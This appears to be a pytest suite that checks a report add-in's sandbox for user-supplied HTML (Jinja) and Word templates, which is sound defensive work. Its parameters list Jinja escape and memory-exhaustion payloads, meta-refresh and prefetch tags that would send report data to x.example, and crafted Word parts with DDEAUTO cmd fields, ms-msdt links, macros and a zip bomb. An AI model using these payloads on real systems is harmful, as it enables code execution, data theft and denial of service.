"""Templates of one's own: rendered in the same sandbox, and told place and name of a mistake."""

from __future__ import annotations

import io
import random
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from docx import Document

from addin.reports.html import render_html
from addin.reports.model import Overview
from addin.reports.overview import overview_context
from addin.reports.sandbox import template_folder
from addin.reports.source import Source
from addin.reports.word import render_docx
from addin.reports.wordgate import MAX_BYTES
from addin.reports.zipped import pack, unpack
from workbook.errors import UserError

ESCAPES = (
    "{{ meta.__class__.__mro__ }}",
    "{{ units.__class__ }}",
    "{{ ''.__class__.__base__.__subclasses__() }}",
    "{{ charts.clear() }}",
    "{{ charts.update({'a': 1}) }}",
    "{{ cycler.__init__.__globals__ }}",
    "{{ self.__init__.__globals__ }}",
    "{{ range(10000000) }}",
    "{% include '/etc/passwd' %}",
    "{% include '../pyproject.toml' %}",
    "{{ ''|attr('__class__') }}",
    "{{ '{0.__class__}'.format(meta) }}",
    "{{ import('os') }}",
)


def field_xml(*pieces: str) -> bytes:
    """A field whose instruction is cut into runs; a piece that is markup stands between them."""
    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    runs = "".join(p if p[0] == "<" else f"<w:r><w:instrText>{p}</w:instrText></w:r>" for p in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f"<w:p {w}>{begin}{runs}{end}</w:p>".encode()


def relation(kind: str, target: str = "a.bin", mode: str = "Internal") -> bytes:
    """The relations of a part that leads to another of this kind, inside the file or to an address."""
    leads = f'Type="http://x/relationships/{kind}" Target="{target}" TargetMode="{mode}"'
    return f"<Relationships><Relationship {leads}/></Relationships>".encode()


def workbook(**parts: bytes) -> bytes:
    """A workbook to embed, with these parts; two underscores stand for a slash, one for a dot."""
    named = {name.replace("__", "/").replace("_", "."): content for name, content in parts.items()}
    return pack({"[Content_Types].xml": b"<Types/>", **named})


@pytest.fixture(scope="module")
def context(source: Source) -> Overview:
    return overview_context(source)


@pytest.fixture
def page(tmp_path: Path) -> Callable[[str], Path]:
    def write(text: str) -> Path:
        path = tmp_path / "mine.html.j2"
        path.write_text(text, encoding="utf-8")
        return path

    return write


@pytest.fixture
def word(tmp_path: Path) -> Callable[[str], Path]:
    """The shipped Word template with one paragraph of the test's own, the second of the document."""

    def write(text: str) -> Path:
        document = Document(str(template_folder() / "overview.docx"))
        document.paragraphs[1].text = text
        path = tmp_path / "mine.docx"
        document.save(str(path))
        return path

    return write


def fault(render: Callable[[], object]) -> UserError:
    with pytest.raises(UserError) as caught:
        render()
    return caught.value


def test_own_page_uses_fields_and_macros(context: Overview, page: Callable[[str], Path]) -> None:
    """A user's page may extend ours and print any field."""
    template = page(
        "{% extends 'shared/base.html.j2' %}{% block content %}<p id=x>{{ units | length }}</p>{% endblock %}"
    )
    assert "<p id=x>36</p>" in render_html("overview", context, template)


@pytest.mark.parametrize(
    "head",
    [
        "<html><head>",
        "<!-- <head> --><script>alert(1)</script><html><head>",
        "\ufeff \n<!DOCTYPE html><html lang=en><head>",
        "<p title='<head>'>",
        "",
    ],
)
def test_own_page_stands_behind_our_policy(context: Overview, page: Callable[[str], Path], head: str) -> None:
    """Whatever a user's page begins with, only our doctype and charset stand before the policy."""
    made = render_html("overview", context, page(f"{head}<script>alert(1)</script>"))
    assert re.match(
        r'<!doctype html>(<html lang="th">)?<meta charset="utf-8">'
        r"<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; [^\"]+\">",
        made,
    )
    assert made.lower().count("<!doctype") == 1


@pytest.mark.parametrize(
    "text",
    [
        '<meta http-equiv="refresh" content="0;url=https://x.example/?{{ message.lead }}">',
        "<p>\n<META/content='>' HTTP-EQUIV = refresh>",
        "<meta x='y' http-equiv=\"&#114;efresh\"",
        "<meta a=' http-equiv='refresh' http-equiv=refresh >",
        "<{{ 'me' ~ 'ta' }} = http-equiv=refresh>",
        '<link rel="dns-prefetch" href="//{{ units[0].code }}.x.example">',
        "<svg><link\nrel=preconnect href=https://x.example>",
    ],
)
def test_page_cannot_leave(context: Overview, page: Callable[[str], Path], text: str) -> None:
    """A page that would take a reader and the figures elsewhere by itself is refused."""
    assert fault(lambda: render_html("overview", context, page(text))).code == "template_forbidden"


def test_page_that_leaves_is_told_its_line(context: Overview, page: Callable[[str], Path]) -> None:
    """The sentence names the line of the tag."""
    error = fault(lambda: render_html("overview", context, page("<p>\n<link rel=icon href=x>")))
    assert str(error.params["place"]).startswith("บรรทัดที่ 2:")


def test_page_may_say_what_it_is(context: Overview, page: Callable[[str], Path]) -> None:
    """Metas about the page itself stay, and so do texts that only speak of a refresh."""
    text = '<meta http-equiv="Content-Type" content="text/html"><meta name="author"><p>http-equiv=refresh'
    assert text in render_html("overview", context, page(text))


@pytest.mark.parametrize("text", ESCAPES)
def test_page_cannot_escape(context: Overview, page: Callable[[str], Path], text: str) -> None:
    """Attempts to reach Python or files are refused with a sentence, and print nothing."""
    assert fault(lambda: render_html("overview", context, page(text))).code.startswith("template_")


@pytest.mark.parametrize("text", ESCAPES)
def test_word_cannot_escape(context: Overview, word: Callable[[str], Path], text: str) -> None:
    """The same for Word."""
    assert fault(lambda: render_docx("overview", context, word(text))).code.startswith("template_")


@pytest.mark.parametrize(
    "text",
    [
        "{{ 'a' * 1000000000 }}",
        "{{ 1000000000 * [1] }}",
        "{{ 9 ** 999999999 }}",
        "{% set n = namespace(x=9) %}{% for i in range(40) %}{% set n.x = n.x * n.x %}{% endfor %}",
        "{% set n = namespace(x=[1]) %}{% for i in range(40) %}{% set n.x = n.x + n.x %}{% endfor %}",
        "{{ range(10001) }}",
        "{{ range(9 ** 30) }}",
        "{{ '%1000000000d' % 1 }}",
        "{{ '%*d' % (1000000000, 1) }}",
        "{{ '%1000000000d' | format(1) }}",
        "{{ '{:1000000000}'.format(1) }}",
        "{{ '{:{}}'.format(1, 1000000000) }}",
        "{{ 'a'.ljust(1000000000) }}",
        "{{ 'a' | center(1000000000) }}",
        "{{ [1] | batch(1000000000, 0) | list }}",
        "{{ 1 | round(1000000000, 'ceil') }}",
    ],
)
def test_page_cannot_build_without_bound(context: Overview, page: Callable[[str], Path], text: str) -> None:
    """One operation cannot fill the memory: it is refused before it is carried out."""
    assert fault(lambda: render_html("overview", context, page(text))).code == "template_forbidden"


def test_page_may_compute(context: Overview, page: Callable[[str], Path]) -> None:
    """Ordinary sums, repetitions and formats of large figures remain."""
    text = (
        "{{ 3 * 'ab' }} {{ 250000 * 4 }} {{ 2 ** 10 }} {{ 12345678.5 | round(1) }} {{ '%.4f' % 123456 }} "
        "{{ '{:,.2f}'.format(1234567) }} {{ 'x'.center(3) }} {{ range(10000) | length }} {{ [1] + [2] }}"
    )
    made = render_html("overview", context, page(f"<main>{text}</main>"))
    expected = "ababab 1000000 1024 12345678.5 123456.0000 1,234,567.00  x  10000 [1, 2]"
    assert expected == made.partition("<main>")[2].partition("</main>")[0]


def test_page_names_place_and_name(context: Overview, page: Callable[[str], Path]) -> None:
    """A name that does not exist is told with line and name."""
    error = fault(lambda: render_html("overview", context, page("<p>\n{{ message.laed }}</p>")))
    assert (error.code, error.params["name"]) == ("template_unknown_name", "laed")
    assert "บรรทัดที่ 2" in str(error.params["place"])


def test_word_names_place_and_name(context: Overview, word: Callable[[str], Path]) -> None:
    """In Word it is told with the paragraph and its text."""
    error = fault(lambda: render_docx("overview", context, word("คะแนน {{ message.laed }}")))
    assert (error.code, error.params["name"]) == ("template_unknown_name", "laed")
    assert error.params["place"] == "ย่อหน้าที่ 2: «คะแนน {{ message.laed }}»"


def test_word_tells_syntax(context: Overview, word: Callable[[str], Path]) -> None:
    """A tag that is not closed is a syntax error with its paragraph."""
    error = fault(lambda: render_docx("overview", context, word("{% if units %}เปิดไว้")))
    assert error.code == "template_syntax"


def test_word_tells_broken_blocks(context: Overview, word: Callable[[str], Path]) -> None:
    """Tags that cut an element in two are refused instead of silently repaired."""
    error = fault(lambda: render_docx("overview", context, word("{{ message.lead }}{%p if units %}")))
    assert error.code in {"template_broken_blocks", "template_syntax"}


@pytest.mark.parametrize(
    ("part", "content", "code"),
    [
        ("word/vbaProject.bin", b"x", "template_has_macros"),
        (
            "word/_rels/header1.xml.rels",
            b'<Relationships><Relationship Type="x" Target="x:y" TargetMode="External"/></Relationships>',
            "template_has_links",
        ),
        (
            "word/extra.xml",
            b'<x xmlns:w="w"><w:instrText xml:space="preserve"> DDEAUTO cmd </w:instrText></x>',
            "template_has_fields",
        ),
        (
            "word/_rels/header1.xml.rels",
            b'<Relationships><Relationship Type="x" Target="x:y" TargetMode="Exter&#110;al"/></Relationships>',
            "template_has_links",
        ),
        ("word/extra.xml", field_xml("DDEA", "UTO cmd"), "template_has_fields"),
        ("word/extra.xml", field_xml("INCLUDE", field_xml("PAGE").decode(), "TEXT x"), "template_has_fields"),
        ("word/extra.bin", field_xml("DDEA", "UTO cmd"), "template_has_fields"),
        (
            "word/extra.xml",
            '<?xml version="1.0" encoding="utf-16"?><x instr="a"><fldSimple instr="D&#68;E c"/></x>'.encode(
                "utf-16"
            ),
            "template_has_fields",
        ),
        (
            "word/extra.xml",
            b'<!DOCTYPE x [<!ENTITY e "DDE">]><x><instrText>&e;</instrText></x>',
            "template_not_docx",
        ),
        ("word/extra.xml", b"<x>", "template_not_docx"),
        ("word/extra.xml", field_xml(" INCLUDE other.docx"), "template_has_fields"),
        ("word/extra.xml", field_xml(" MACROBUTTON AutoOpen x"), "template_has_fields"),
        ("word/_rels/header1.xml.rels", relation("aFChunk"), "template_has_links"),
        ("word/_rels/header1.xml.rels", relation("oleObject"), "template_has_links"),
        ("word/_rels/header1.xml.rels", relation("control"), "template_has_links"),
        ("word/_rels/header1.xml.rels", relation("vbaProject"), "template_has_macros"),
        ("word/extra.xml", b'<x xmlns:w="w"><w:mailMerge/></x>', "template_has_links"),
        ("word/extra.xml", b'<x action="ppaction://program"/>', "template_has_macros"),
        ("word/extra.xml", b'<x action=" ppaction://hlinkfile"/>', "template_has_macros"),
        ("word/_rels/header1.xml.rels", relation("webextensiontaskpanes"), "template_has_macros"),
        ("_rels/more.rels", relation("ui/extensibility"), "template_has_macros"),
        ("word/_rels/header1.xml.rels", relation("attachedTemplate"), "template_has_links"),
        ("word/_rels/header1.xml.rels", relation("subDocument"), "template_has_links"),
        ("word/_rels/header1.xml.rels", relation("frame"), "template_has_links"),
        ("word/_rels/a.rels", relation("hyperlink", r"file:///\\x\y", "External"), "template_has_links"),
        ("word/_rels/a.rels", relation("hyperlink", "ms-msdt:/id", "External"), "template_has_links"),
        ("word/extra.xml", field_xml('HYPERLINK "ms-', 'msdt:/id"'), "template_has_fields"),
        ("word/extra.xml", field_xml(r'HYPERLINK "\\\\host\\x"'), "template_has_fields"),
        ("word/embeddings/a.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "template_has_links"),
        ("word/embeddings/a.xlsx", workbook(xl__vbaProject_bin=b"x"), "template_has_macros"),
        ("word/embeddings/a.png", b"x" + workbook(xl__vbaProject_bin=b"x"), "template_has_macros"),
        (
            "word/embeddings/a.xlsx",
            workbook(xl___rels__a_rels=relation("connections")),
            "template_has_links",
        ),
        ("word/embeddings/a.xlsx", workbook(xl__a_xlsx=workbook()), "template_has_links"),
    ],
)
def test_word_refuses_what_runs_or_fetches(
    context: Overview, tmp_path: Path, part: str, content: bytes, code: str
) -> None:
    """Macros, links to elsewhere and fields that call programs are refused before anything is rendered."""
    parts = unpack((template_folder() / "overview.docx").read_bytes())
    path = tmp_path / "mine.docx"
    path.write_bytes(pack({**parts, part: content}))
    assert code == fault(lambda: render_docx("overview", context, path)).code


@pytest.mark.parametrize(
    ("part", "content"),
    [
        ("word/_rels/a.rels", relation("hyperlink", "https://x.example/a", "External")),
        ("word/_rels/a.rels", relation("hyperlink", "mailto:a@x.example", "External")),
        ("word/extra.xml", field_xml(r'HYPERLINK \l "_Toc1" \o "note: here"')),
        ("word/extra.xml", b'<x action="ppaction://hlinkshowjump?jump=nextslide"/>'),
        ("word/embeddings/a.xlsx", workbook(xl__workbook_xml=b"<x/>")),
    ],
)
def test_word_takes_links_that_wait_for_a_click(
    context: Overview, tmp_path: Path, part: str, content: bytes
) -> None:
    """Links to pages and addresses, jumps within the file and the workbook of a chart stay allowed."""
    parts = unpack((template_folder() / "overview.docx").read_bytes())
    path = tmp_path / "mine.docx"
    path.write_bytes(pack({**parts, part: content}))
    assert content == unpack(render_docx("overview", context, path))[part]


def test_word_refuses_fields_that_tags_put_together(context: Overview, tmp_path: Path) -> None:
    """A field whose name exists only after rendering is refused as well."""
    parts = unpack((template_folder() / "overview.docx").read_bytes())
    field = field_xml("DD{{ '' }}E cmd")
    body = parts["word/document.xml"].replace(b"<w:body>", b"<w:body>" + field, 1)
    path = tmp_path / "mine.docx"
    path.write_bytes(pack({**parts, "word/document.xml": body}))
    assert fault(lambda: render_docx("overview", context, path)).code == "template_has_fields"


@pytest.mark.parametrize("seed", range(6))
def test_a_damaged_word_file_is_refused(context: Overview, tmp_path: Path, seed: int) -> None:
    """Whatever part is missing, is another or has lost some bytes: a sentence, or a report; never a crash."""
    parts = unpack((template_folder() / "overview.docx").read_bytes())
    chance = random.Random(seed)
    path = tmp_path / "mine.docx"
    codes = []
    for name in chance.sample(sorted(parts), 4):
        begin = chance.randrange(len(parts[name]))
        cut = parts[name][:begin] + parts[name][begin + chance.randrange(1, 40) :]
        without = {key: part for key, part in parts.items() if key != name}
        for damaged in (without, {**parts, name: cut}, {**parts, name: parts[chance.choice(sorted(parts))]}):
            path.write_bytes(pack(damaged))
            try:
                render_docx("overview", context, path)
            except UserError as error:
                codes.append(error.code)
    assert codes
    assert all(code.startswith("template_") for code in codes)


def test_a_file_whose_compression_is_damaged_is_refused(context: Overview, tmp_path: Path) -> None:
    """Bytes that do not unpack are no Word file."""
    content = bytearray((template_folder() / "overview.docx").read_bytes())
    begin = content.index(b"word/document.xml") + 60
    content[begin : begin + 200] = b"\xff" * 200
    path = tmp_path / "mine.docx"
    path.write_bytes(content)
    assert fault(lambda: render_docx("overview", context, path)).code == "template_not_docx"


def test_a_bomb_is_not_unpacked(context: Overview, tmp_path: Path) -> None:
    """A small file that would unpack to more than the limit is refused by what it says of itself."""
    parts = unpack((template_folder() / "overview.docx").read_bytes())
    path = tmp_path / "mine.docx"
    path.write_bytes(pack({**parts, "word/media/image1.png": bytes(MAX_BYTES)}))
    assert path.stat().st_size < MAX_BYTES / 500
    assert fault(lambda: render_docx("overview", context, path)).code == "template_too_large"


def test_what_is_no_word_file_is_refused(context: Overview, tmp_path: Path) -> None:
    """A text file with the suffix of Word is no template."""
    path = tmp_path / "mine.docx"
    path.write_bytes(b"hello")
    assert fault(lambda: render_docx("overview", context, path)).code == "template_not_docx"


@pytest.mark.parametrize("kind", ["overview", "unit"])
def test_word_templates_have_charts_with_alt_text(kind: str) -> None:
    """Each native chart of a shipped template has a name that is filled and a description."""
    document = Document(str(template_folder() / f"{kind}.docx"))
    frames = list(document.element.iter("{*}docPr"))
    assert len(frames) == 2
    assert all(re.fullmatch("chart_[a-z]+", frame.get("name")) and frame.get("descr") for frame in frames)


def test_shipped_templates_open_after_an_edit(context: Overview, word: Callable[[str], Path]) -> None:
    """A template edited and saved by another program still renders."""
    document = Document(io.BytesIO(render_docx("overview", context, word("แก้ไขแล้ว {{ meta.title }}"))))
    assert document.paragraphs[1].text == f"แก้ไขแล้ว {context.meta.title}"
